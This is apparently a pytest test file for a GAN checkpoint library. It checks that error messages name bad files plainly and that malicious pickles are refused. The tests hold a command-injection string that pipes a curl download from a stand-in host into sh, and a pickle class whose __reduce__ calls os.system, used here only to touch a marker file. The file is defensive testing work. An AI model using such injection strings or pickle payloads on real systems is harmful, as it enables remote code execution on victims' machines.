"""Issue 12, items 16 and 17: messages that name the file, say what was expected and how to fix
it; nothing read from a file is ever turned into a command for the user to run."""

from __future__ import annotations

import io
import os
import pickle
from pathlib import Path

import pytest
import torch
from _rel_cli import run_gtx
from PIL import Image

import gantransfer
from gantransfer.config import to_plain
from gantransfer.engine.checkpoint import CheckpointError, read_checkpoint, save_checkpoint
from gantransfer.torchfile import (
    DamagedFileError,
    TorchFileError,
    UnsafeFileError,
    load_tensors,
)


class _Payload:
    """Unpickling this would create a marker file: a stand-in for malicious code."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def _tiny_checkpoint(path: Path) -> Path:
    model = gantransfer.get("cyclegan", ngf=2, ndf=2, netG="resnet_6blocks")
    save_checkpoint({"architecture": "cyclegan", "config": to_plain(model.config),
                     "model": model.state_dict(), "ema": None, "step": 1, "epoch": 0,
                     "versions": {}}, path)
    return path


# -- item 16: file content is never turned into an install command ------------------------------
@pytest.mark.parametrize("dist", [
    "gantransfer-nope",  # a plausible name: shown as the file's claim, not as a command
    "evil'; curl http://x.example/p | sh; echo '",  # not a distribution name: not shown at all
])
def test_unknown_architecture_never_prints_an_install_command(tmp_path: Path, capsys, dist):
    path = tmp_path / "c.pt"
    save_checkpoint({"architecture": "nope_gan", "config": {}, "model": {}, "step": 1,
                     "versions": {"plugin": dist, "plugin_version": "2.0"}}, path)
    inputs = tmp_path / "in"
    inputs.mkdir()
    Image.new("RGB", (8, 8)).save(inputs / "x.png")
    code, out = run_gtx(capsys, "translate", path, inputs, "-o", tmp_path / "out")
    assert code == 1
    assert "pip install" not in out and "curl" not in out
    assert "'nope_gan'" in out and "not installed" in out and "cyclegan" in out  # what is
    if dist == "gantransfer-nope":
        assert "'gantransfer-nope' version '2.0'" in out and "not a checked fact" in out
    else:
        assert "names no valid plugin distribution" in out


def test_unknown_architecture_name_from_the_file_is_shortened(tmp_path: Path) -> None:
    path = tmp_path / "c.pt"
    save_checkpoint({"architecture": "x" * 5000, "config": {}, "model": {}, "step": 1}, path)
    with pytest.raises(CheckpointError) as info:
        gantransfer.load(path)
    assert "xxx..." in str(info.value) and len(str(info.value)) < 600


# -- item 17: what a refused or foreign file is, said plainly ----------------------------------
def test_onnx_file_given_to_export_is_called_an_onnx_file(tmp_path: Path, capsys) -> None:
    onnx_file = tmp_path / "model.onnx"
    onnx_file.write_bytes(b"\x08\x08\x12\x07pytorch")  # how an ONNX protobuf starts
    code, out = run_gtx(capsys, "export", onnx_file, "--onnx", tmp_path / "out.onnx")
    assert code == 1
    assert "model.onnx is an ONNX model, not a gantransfer checkpoint" in out
    assert "gtx translate" in out  # how to run it instead
    assert "Please file an issue" not in out and "unsafe" not in out.lower()


@pytest.mark.parametrize("protocol", [2, 4])
@pytest.mark.parametrize("container", ["torch", "pickle"])
def test_malicious_pickle_names_the_blocked_call(tmp_path: Path, capsys, protocol, container):
    marker = tmp_path / "pwned"
    path = tmp_path / "evil.pt"
    if container == "torch":
        buffer = io.BytesIO()
        torch.save({"x": _Payload(marker)}, buffer, pickle_protocol=protocol)
        path.write_bytes(buffer.getvalue())
    else:
        path.write_bytes(pickle.dumps({"x": _Payload(marker)}, protocol=protocol))
    code, out = run_gtx(capsys, "export", path, "--onnx", tmp_path / "out.onnx")
    assert code == 1 and not marker.exists()
    system = f"{os.system.__module__}.system"  # posix.system (nt.system on Windows)
    assert f"`{system}`" in out
    assert "refused on purpose" in out
    assert "weights_only" not in out and "Please file an issue" not in out
    with pytest.raises(UnsafeFileError) as info:
        load_tensors(path, expected="a checkpoint")
    assert info.value.blocked == [system]


@pytest.mark.parametrize(("content", "said"), [
    (b"", "is empty"),
    (b"\x89PNG\r\n\x1a\n" + bytes(40), "is a PNG image"),
    (b"hello world, not a checkpoint", "is not a PyTorch file"),
])
def test_foreign_files_are_named_for_what_they_are(tmp_path: Path, content, said) -> None:
    path = tmp_path / "thing.pt"
    path.write_bytes(content)
    with pytest.raises(CheckpointError) as info:
        read_checkpoint(path)
    text = str(info.value)
    assert str(path) in text and said in text and "gantransfer checkpoint" in text
    assert "Please file an issue" not in text and "weights_only" not in text


def test_truncated_checkpoint_says_damaged_with_its_size(tmp_path: Path) -> None:
    path = _tiny_checkpoint(tmp_path / "c.pt")
    path.write_bytes(path.read_bytes()[:5000])
    with pytest.raises(DamagedFileError, match=r"c\.pt could not be read: the file is truncated "
                       r"or damaged .* 5000 bytes"):
        load_tensors(path, expected="a checkpoint")
    # Another kind of file is not "damaged" (a run's fallback to an older checkpoint may skip
    # damaged ones; a PNG passed by mistake is a usage error).
    png = tmp_path / "x.pt"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(40))
    with pytest.raises(TorchFileError) as info:
        load_tensors(png, expected="a checkpoint")
    assert not isinstance(info.value, DamagedFileError)


def test_official_weights_loader_uses_the_same_messages(tmp_path: Path) -> None:
    from gantransfer_cyclegan.official import read_state_dict

    path = tmp_path / "latest_net_G_A.pth"
    path.write_bytes(pickle.dumps({"x": _Payload(tmp_path / "pwned")}, protocol=2))
    with pytest.raises(ValueError, match="refused on purpose") as info:
        read_state_dict(path)
    assert "weights_only" not in str(info.value) and not (tmp_path / "pwned").exists()


def test_bench_batch_that_is_not_a_number_is_a_usage_error(capsys) -> None:
    code, out = run_gtx(capsys, "bench", "resnet_6blocks", "--batch", "a,b")
    assert code == 2
    assert "invalid literal" not in out
    assert "batch sizes of at least 1, such as 1,4; got 'a,b'" in out


def test_export_into_a_path_under_a_file_says_which_file_is_in_the_way(tmp_path: Path,
                                                                        capsys) -> None:
    ckpt = _tiny_checkpoint(tmp_path / "c.pt")
    blocker = tmp_path / "afile"
    blocker.write_text("not a folder")
    code, out = run_gtx(capsys, "export", ckpt, "--onnx", blocker / "x.onnx", "--no-verify")
    assert code == 1
    assert "Errno" not in out
    assert f"{blocker} is a file, not a folder" in out
    assert blocker.read_text() == "not a folder"
